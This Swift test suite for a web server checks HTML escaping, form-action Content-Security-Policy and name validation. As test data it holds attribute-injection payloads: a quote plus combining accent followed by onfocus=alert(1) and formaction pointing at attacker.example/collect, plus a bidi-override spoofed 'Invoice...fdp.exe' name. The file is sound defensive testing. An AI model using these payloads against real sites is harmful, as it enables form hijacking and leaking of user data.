import Foundation
import GatehouseAdmin
import GatehouseCore
import GatehouseStore
import HTTPTypes
import Hummingbird
import HummingbirdTesting
import Mustache
import Testing

@testable import GatehouseServer

/// HTML attribute injection (review M3) and the names that carried it (L13): values are escaped
/// per UTF-8 byte, so `"` followed by a combining mark (one grapheme cluster, which
/// swift-mustache's own escaper passes through) still ends up as `&quot;`; forms submit only to
/// this origin; names and titles with controls, bidi overrides or stray combining marks are refused.
@Suite(.timeLimit(.minutes(1))) struct MarkupInjectionTests {
    /// `"` + U+0301 (COMBINING ACUTE ACCENT), then attributes a browser would otherwise parse.
    static let hostile = "x\"\u{301} autofocus onfocus=alert(1) formaction=https://attacker.example/x y"
    static let hostileEscaped = "x&quot;\u{301} autofocus onfocus=alert(1) formaction=https://attacker.example/x y"

    /// Whether `text` holds `needle` byte for byte (`String.contains` compares grapheme clusters).
    static func containsBytes(_ text: String, _ needle: String) -> Bool {
        Data(text.utf8).range(of: Data(needle.utf8)) != nil
    }

    /// The raw bytes of the injection (`"` + U+0301 followed by an attribute) are absent and the
    /// escaped form is present.
    static func expectEscaped(_ text: String, sourceLocation: SourceLocation = #_sourceLocation) {
        let raw = "\"\u{301} autofocus"
        let escaped = "&quot;\u{301} autofocus"
        #expect(!containsBytes(text, raw), sourceLocation: sourceLocation)
        #expect(containsBytes(text, escaped), sourceLocation: sourceLocation)
    }

    @Test func theEscaperReplacesEveryQuoteWhateverFollowsIt() {
        let quote = "a\"\u{301}b"
        let quoteEscaped = "a&quot;\u{301}b"
        #expect(ScalarHTMLEscaping.escape(quote) == quoteEscaped)
        #expect(
            ScalarHTMLEscaping.escape("'\u{301}<\u{301}>\u{20D2}&\u{301}")
                == "&#39;\u{301}&lt;\u{301}&gt;\u{20D2}&amp;\u{301}"
        )
        #expect(ScalarHTMLEscaping.escape("Café ✓ 日本") == "Café ✓ 日本")
    }

    @Test func everyTemplateAndPartialEscapesPerScalar() throws {
        let pages = try HTMLPages(templates: [
            "page": "<a title=\"{{value}}\">{{#items}}<i title=\"{{.}}\"></i>{{/items}}</a>{{> part}}",
            "part": "<b title=\"{{value}}\"></b>",
        ])
        let html = try #require(
            pages.library.render(["value": Self.hostile, "items": [Self.hostile]], withTemplate: "page")
        )
        let raw = "\"\u{301}"
        #expect(!Self.containsBytes(html, raw))
        #expect(html.utf8.count > 0)
        let escaped = Data(html.utf8).ranges(of: Data("&quot;\u{301} autofocus".utf8)).count
        #expect(escaped == 3)
    }

    @Test func aTemplateCannotChooseItsOwnContentType() {
        #expect(throws: HTMLPagesError.self) {
            try HTMLPages(templates: ["page": "{{% CONTENT_TYPE: HTML}}<a title=\"{{value}}\">"])
        }
    }

    @Test func aStoredTitleWithACombiningMarkAfterAQuoteStaysInsideTheRemoveButtonsLabel() async throws {
        let world = try await TestWorld.make()
        let flow = try await OAuthFlow.make(world)
        var page = try await world.admin.createPage(workspaceID: world.workspace.id, title: "Roadmap", databaseID: nil)
        _ = try await world.admin.share(integrationID: world.integration.id, target: .page(page.id), remove: false)
        // A title stored before names were validated (the API refuses it now): written to the store directly.
        page.title = "Roadmap\"\u{301} formaction=https://attacker.example/collect formmethod=get x"
        try await world.store.updatePage(page)
        try await world.test(.live) { client in
            let session = try requireValue(try await flow.signIn(client), "session")
            let html = try await client.send(
                .get,
                "/console/integrations/\(world.integration.id)",
                cookies: [OAuthFlow.sessionCookie: session]
            )
            #expect(html.status == 200)
            let raw = "\"\u{301} formaction"
            let escaped = "aria-label=\"Stop sharing Roadmap&quot;\u{301} formaction="
            #expect(!Self.containsBytes(html.text, raw))
            #expect(Self.containsBytes(html.text, escaped))
            let csp = try requireValue(html.headers[.contentSecurityPolicy], "CSP")
            #expect(csp.contains("form-action 'self'"))
            #expect(csp.contains("base-uri 'none'"))
        }
    }

    @Test func reflectedValuesWithACombiningMarkAfterAQuoteStayInsideTheirAttribute() async throws {
        let world = try await TestWorld.make()
        let flow = try await OAuthFlow.make(world)
        try await world.test(.live) { client in
            let session = try requireValue(try await flow.signIn(client), "session")
            let cookies = [OAuthFlow.sessionCookie: session]
            var query = URLComponents()
            query.queryItems = [URLQueryItem(name: "action", value: Self.hostile)]
            let audit = try await client.send(.get, "/console/audit?" + query.percentEncodedQuery!, cookies: cookies)
            #expect(audit.status == 200)
            Self.expectEscaped(audit.text)

            let consent = try await client.send(
                .get,
                "/v1/oauth/authorize?" + flow.query(["state": Self.hostile]),
                cookies: cookies
            )
            #expect(consent.status == 200)
            Self.expectEscaped(consent.text)
            #expect(Self.containsBytes(consent.text, "name=\"state\" value=\"\(Self.hostileEscaped)\">"))

            // A forged sign-in (reachable cross-site) is refused before its handler: `next` is not
            // reflected at all.
            let signIn = try await client.send(.post, "/signin", form: [("next", "/console" + Self.hostile)])
            let raw = "\"\u{301} autofocus"
            let reflected = Self.containsBytes(signIn.text, raw)
            #expect(signIn.status == 403)
            #expect(!reflected)
        }
    }

    @Test func formsSubmitOnlyToThisOriginAndTheConsentFormAlsoToTheClientsOrigin() async throws {
        let world = try await TestWorld.make()
        let flow = try await OAuthFlow.make(world, redirectURIs: ["https://client.example:8443/callback"])
        try await world.test(.live) { client in
            let signIn = try await client.send(.get, "/v1/oauth/authorize?" + flow.query(["redirect_uri": nil]))
            #expect(signIn.headers[.contentSecurityPolicy]?.hasSuffix("; form-action 'self'") == true)
            let session = try requireValue(
                try await flow.signIn(client, changes: ["redirect_uri": nil]),
                "session"
            )
            let consent = try await client.send(
                .get,
                "/v1/oauth/authorize?" + flow.query(["redirect_uri": nil]),
                cookies: [OAuthFlow.sessionCookie: session]
            )
            #expect(consent.status == 200)
            #expect(
                consent.headers[.contentSecurityPolicy]?.hasSuffix("; form-action 'self' https://client.example:8443")
                    == true
            )
        }
    }

    @Test func formActionSourcesNameOnlyTheOriginOrTheScheme() {
        #expect(HTMLPages.formActionSource("https://App.Example/cb?x=1") == "https://app.example")
        #expect(HTMLPages.formActionSource("http://127.0.0.1:5000/callback") == "http://127.0.0.1:5000")
        #expect(HTMLPages.formActionSource("com.example.app:/callback") == "com.example.app:")
        #expect(HTMLPages.formActionSource("http://[::1]:5000/callback") == "http:")
        #expect(HTMLPages.formActionSource("not a uri; script-src *") == nil)
    }

    @Test func pageTitlesWithControlsBidiOrStrayCombiningMarksAreRefusedAndNothingIsStored() async throws {
        let world = try await TestWorld.make()
        try await world.test(.live) { client in
            for bad in [
                "Roadmap\"\u{301} formaction=https://attacker.example/collect", "\u{301}Roadmap", "Road\u{202E}pam",
                "Road\u{1B}[31mmap", "Road\u{85}map", "Road\u{2066}map",
            ] {
                let content = String(decoding: try JSONEncoder().encode(bad), as: UTF8.self)
                let body = "{\"properties\":{\"title\":{\"title\":[{\"text\":{\"content\":\(content)}}]}}}"
                let update = try await client.call(
                    .patch,
                    "/v1/pages/\(world.sharedPage.id)",
                    token: world.token,
                    body: body
                )
                #expect(update.status == 400, "\(bad.unicodeScalars.map(\.value))")
                #expect(update.code == "validation_error")
                #expect(update.message?.contains("body.properties.title.title") == true)
                let create = try await client.call(
                    .post,
                    "/v1/pages",
                    token: world.token,
                    body: "{\"parent\":{\"database_id\":\"\(world.sharedDatabase.id)\"},"
                        + body.dropFirst()
                )
                #expect(create.status == 400)
                #expect(create.code == "validation_error")
            }
            #expect(try await world.store.page(id: world.sharedPage.id)?.title == "Write tests")
            #expect(try await world.store.pages(workspaceID: world.workspace.id).count == 2)
            // A decomposed accent is fine, and is stored composed (NFC).
            let renamed = try await client.call(
                .patch,
                "/v1/pages/\(world.sharedPage.id)",
                token: world.token,
                body: "{\"properties\":{\"title\":{\"title\":[{\"text\":{\"content\":\"Cafe\u{301} \\\"menu\\\"\"}}]}}}"
            )
            #expect(renamed.status == 200)
            let stored = try await world.store.page(id: world.sharedPage.id)?.title ?? ""
            #expect(Array(stored.unicodeScalars) == Array("Caf\u{E9} \"menu\"".unicodeScalars))
        }
    }

    @Test func theConsoleRefusesAnIntegrationNameWithABidiOverrideAndSaysWhy() async throws {
        let world = try await TestWorld.make()
        let flow = try await OAuthFlow.make(world)
        let before = try await world.store.integrations(workspaceID: world.workspace.id).count
        try await world.test(.live) { client in
            let session = try requireValue(try await flow.signIn(client), "session")
            let cookies = [OAuthFlow.sessionCookie: session]
            let form = try await client.send(.get, "/console/integrations/new", cookies: cookies)
            let csrf = try requireValue(form.field("csrf"), "csrf")
            let created = try await client.send(
                .post,
                "/console/integrations",
                form: [
                    ("csrf", csrf), ("name", "Invoice\u{202E}fdp.exe"), ("kind", "internal"),
                    ("capability", "read_content"), ("user_info", "no_user_info"),
                ],
                cookies: cookies
            )
            #expect(created.status == 200)
            #expect(created.text.contains("the integration name contains a bidirectional control character (U+202E)"))
            #expect(!created.text.contains("secret_"))
            #expect(try await world.store.integrations(workspaceID: world.workspace.id).count == before)
        }
    }

    @Test func adminOperationsRefuseNamesWithControlsBidiOrStrayCombiningMarks() async throws {
        let world = try await TestWorld.make()
        let before = try await world.store.integrations(workspaceID: world.workspace.id).count
        await #expect(throws: AdminError.self) {
            _ = try await world.admin.createWorkspace(name: "Acme\u{202E}", plan: .free)
        }
        await #expect(throws: AdminError.self) {
            _ = try await world.admin.createInternalIntegration(
                workspaceID: world.workspace.id,
                name: "\u{301}Robot",
                capabilities: .all
            )
        }
        await #expect(throws: AdminError.self) {
            _ = try await world.admin.createDatabase(workspaceID: world.workspace.id, title: "Tasks\u{7}")
        }
        await #expect(throws: AdminError.self) {
            _ = try await world.admin.createPage(
                workspaceID: world.workspace.id,
                title: "a\"\u{301} b",
                databaseID: world.sharedDatabase.id
            )
        }
        #expect(try await world.store.integrations(workspaceID: world.workspace.id).count == before)
        let accepted = try await world.admin.createDatabase(
            workspaceID: world.workspace.id,
            title: "Re\u{301}sume\u{301}"
        )
        #expect(Array(accepted.title.unicodeScalars) == Array("R\u{E9}sum\u{E9}".unicodeScalars))
        await world.store.shutdown()
    }
}
